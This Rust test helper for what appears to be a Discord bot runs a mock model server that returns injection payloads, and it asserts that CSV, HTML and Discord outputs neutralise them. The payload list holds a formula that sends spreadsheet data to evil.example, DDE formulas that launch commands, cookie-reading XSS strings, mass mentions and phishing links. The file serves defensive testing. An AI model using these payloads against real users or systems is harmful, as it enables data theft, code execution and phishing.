//! A hostile model server and the checks every destination of its text must pass (issue 11):
//! each answer puts attack payloads in every field (formulas, HTML and JavaScript, Discord
//! mentions, masked and invite links, zero-width and right-to-left characters, 10,000-character
//! strings, broken JSON inside strings), and names itself with a formula.

use serde_json::{json, Value};
use std::sync::atomic::{AtomicUsize, Ordering};
use wiremock::{Mock, MockServer, Request, Respond, ResponseTemplate};

pub const PAYLOADS: &[&str] = &[
    r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#,
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "<script>alert('x')</script>",
    r#""><img src=x onerror=alert(1)>"#,
    "javascript:alert(document.cookie)",
    "<@123456789012345678> <@!123456789012345678> <@&987654321098765432>",
    "@everyone @here",
    "[free help](https://evil.example/phish)",
    "discord.gg/evilinvite https://discord.com/invite/evil",
    "hid\u{200B}den @\u{200B}everyone \u{202E}txet desrever",
    r#"{"reply": "broken \u12 json", "emotion": ["#,
    "```\n||spoiler|| **bold** # heading\n> quote",
];

/// Words from the payloads that no safe output may show as they are.
pub const LINK_MARKERS: &[&str] = &["evil.example", "discord.gg", "discord.com/invite"];

/// A 10,000-character string made of payloads.
pub fn huge() -> String {
    let mut text = PAYLOADS.concat();
    while text.chars().count() < 10_000 {
        text.push_str(&PAYLOADS.concat());
    }
    text.chars().take(10_000).collect()
}

/// Answer `n`: payload `n` as the strategy and the emotion (odd answers hide an emotion word
/// among payloads), every payload as reasoning, and a reply of payloads (a 10,000-character one
/// every fourth answer).
pub fn hostile_answer(n: usize) -> String {
    let payload = PAYLOADS[n % PAYLOADS.len()];
    let emotion = match n % 2 {
        0 => payload.to_string(),
        _ => format!("=sad\u{202E} <@1> {payload}"),
    };
    let reply = if n % 4 == 3 {
        huge()
    } else {
        format!("I hear you. {}", PAYLOADS.join(" "))
    };
    let mut reasoning: Vec<String> = PAYLOADS.iter().map(|p| p.to_string()).collect();
    reasoning.push(huge());
    json!({"emotion": emotion, "reasoning": reasoning, "strategy": payload, "reply": reply})
        .to_string()
}

struct Hostile(AtomicUsize);

impl Respond for Hostile {
    fn respond(&self, _: &Request) -> ResponseTemplate {
        let n = self.0.fetch_add(1, Ordering::SeqCst);
        ResponseTemplate::new(200).set_body_json(json!({
            "id": "cmpl-hostile", "object": "chat.completion", "model": PAYLOADS[0],
            "choices": [{"index": 0, "message": {"role": "assistant", "content": hostile_answer(n)},
                         "finish_reason": "stop"}],
            "usage": {"prompt_tokens": 120, "completion_tokens": 40, "total_tokens": 160}
        }))
    }
}

/// A model server whose every answer is hostile.
pub async fn hostile_model() -> MockServer {
    let server = MockServer::start().await;
    Mock::given(wiremock::matchers::method("POST"))
        .and(wiremock::matchers::path("/v1/chat/completions"))
        .respond_with(Hostile(AtomicUsize::new(0)))
        .mount(&server)
        .await;
    server
}

/// What a spreadsheet reads as a formula: OWASP's first characters (and their full-width
/// forms), after leading spaces, unless the cell is a plain number.
pub fn starts_a_formula(cell: &str) -> bool {
    let first = cell.trim_start_matches(' ').chars().next();
    let formula = [
        '=', '+', '-', '@', '\t', '\r', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}',
    ];
    first.is_some_and(|c| formula.contains(&c)) && cell.parse::<f64>().is_err()
}

/// Every cell of a CSV file, header included; panics on a formula. Returns the rows read.
pub fn assert_csv_safe(what: &str, bytes: &[u8]) -> Vec<csv::StringRecord> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(bytes);
    let records: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
    for record in &records {
        for cell in record {
            assert!(
                !starts_a_formula(cell),
                "{what}: a cell starts a formula: {cell:?}"
            );
        }
    }
    records
}

/// No tag of the payloads survives unescaped in an HTML page and the page links nowhere
/// (escaped, `onerror=` is only text).
pub fn assert_html_safe(what: &str, html: &str) {
    for tag in ["<script", "<img", "<svg onload", "href="] {
        assert!(
            !html.contains(tag),
            "{what}: the page holds {tag:?} unescaped"
        );
    }
}

/// The label rule of a stored emotion: lower-case ASCII words, at most 32 characters.
pub fn assert_label(emotion: &str) {
    assert!(
        !emotion.is_empty()
            && emotion.len() <= 32
            && emotion.chars().all(|c| c.is_ascii_lowercase() || c == ' '),
        "stored emotion {emotion:?} is not a label"
    );
}

/// Every string inside a JSON value (a Discord message body: content, embeds, components).
pub fn strings_of(value: &Value) -> Vec<String> {
    match value {
        Value::String(s) => vec![s.clone()],
        Value::Array(items) => items.iter().flat_map(strings_of).collect(),
        Value::Object(map) => map.values().flat_map(strings_of).collect(),
        _ => Vec::new(),
    }
}

/// A Discord body carries no mention, no mass mention, no link of the payloads, no hidden or
/// direction-flipping characters.
pub fn assert_discord_safe(what: &str, body: &Value) {
    for text in strings_of(body) {
        let lower = text.to_lowercase();
        // A masked link needs a destination; "[text]([link removed]" is text.
        for banned in [
            "<@",
            "@everyone",
            "@here",
            "](http",
            "](<",
            "\u{200B}",
            "\u{202E}",
        ] {
            assert!(!lower.contains(banned), "{what}: {banned:?} in {text:?}");
        }
        for marker in LINK_MARKERS {
            assert!(!lower.contains(marker), "{what}: {marker:?} in {text:?}");
        }
    }
}

/// A moderator's view also holds no web address at all and no unescaped markdown.
pub fn assert_moderator_safe(what: &str, body: &Value) {
    assert_discord_safe(what, body);
    for text in strings_of(body) {
        assert!(!text.contains("://"), "{what}: a web address in {text:?}");
        for raw in ["```", "||", "**"] {
            assert!(!text.contains(raw), "{what}: unescaped {raw:?} in {text:?}");
        }
    }
}
